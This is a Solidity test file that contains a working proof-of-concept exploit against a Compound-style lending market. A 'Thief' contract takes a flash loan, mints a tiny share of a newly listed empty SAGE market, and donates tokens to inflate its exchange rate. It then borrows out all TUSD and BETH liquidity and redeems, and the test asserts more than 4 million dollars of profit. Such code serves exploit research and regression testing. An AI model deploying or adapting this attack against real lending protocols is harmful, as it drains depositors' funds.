// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Market} from "../empty-market/src/Market.sol";
import {Warden} from "../empty-market/src/Warden.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
}

contract Thief is IFlashBorrower {
    EmptyMarketTest private immutable t = EmptyMarketTest(msg.sender);

    uint256 private gift;

    function run(uint256 gift_, uint256 loan) external {
        gift = gift_;
        t.lender().flashLoan(this, address(t.sage()), loan, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        (Token sage, Market mSage) = (t.sage(), t.mSage());
        sage.approve(address(mSage), type(uint256).max);
        // Two units.
        mSage.mint(4e8);
        sage.transfer(address(mSage), gift);
        t.mTusd().borrow(t.mTusd().cash() - t.mTusd().reserves());
        t.mBeth().borrow(t.mBeth().cash());
        mSage.redeemUnderlying(gift);
        sage.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract EmptyMarketTest {
    event log_named_uint(string key, uint256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant alma = address(0xa1);
    address private constant boris = address(0xb0);

    Token public tusd;
    Token public beth;
    Token public sage;
    Warden public warden;
    Market public mTusd;
    Market public mBeth;
    Market public mSage;
    FlashLender public lender;

    function setUp() public {
        tusd = new Token("Tested dollar", "TUSD");
        beth = new Token("Bridged ether", "BETH");
        sage = new Token("Sage", "SAGE");
        warden = new Warden();
        mTusd = new Market(tusd, warden, "Units of TUSD", "mTUSD");
        mBeth = new Market(beth, warden, "Units of BETH", "mBETH");
        mSage = new Market(sage, warden, "Units of SAGE", "mSAGE");
        lender = new FlashLender(9);
        warden.list(mTusd, 8_500, new Feed(8, 1e8, address(this)));
        warden.list(mBeth, 7_500, new Feed(8, 2_500e8, address(this)));
        tusd.mint(alma, 3_200_000 ether);
        beth.mint(boris, 900 ether);
        sage.mint(address(lender), 3_000_000 ether);
        vm.startPrank(alma);
        tusd.approve(address(mTusd), type(uint256).max);
        mTusd.mint(3_000_000 ether);
        vm.stopPrank();
        vm.startPrank(boris);
        beth.approve(address(mBeth), type(uint256).max);
        mBeth.mint(800 ether);
        mTusd.borrow(600_000 ether);
        vm.stopPrank();
        warden.list(mSage, 7_000, new Feed(8, 5e8, address(this)));
    }

    function test_attack_pays() public {
        Thief thief = new Thief();
        sage.mint(address(thief), 3_000 ether);
        // One unit must secure both debts and their fees: half of the gift, at 70 % of 5 dollars.
        uint256 cash = mTusd.cash() - mTusd.reserves() + 2_500 * mBeth.cash();
        uint256 gift = 2 * cash * 10_020 / 10_000 * 10 / 35 + 1e6;
        thief.run(gift, gift + 4e8 - 3_000 ether);
        uint256 wealth = tusd.balanceOf(address(thief)) + 2_500 * beth.balanceOf(address(thief))
            + 5 * sage.balanceOf(address(thief));
        emit log_named_uint("gift", gift);
        emit log_named_uint("profit in base units of tusd", wealth - 15_000 ether);
        require(wealth > 4_000_000 ether, "no profit");
    }
}
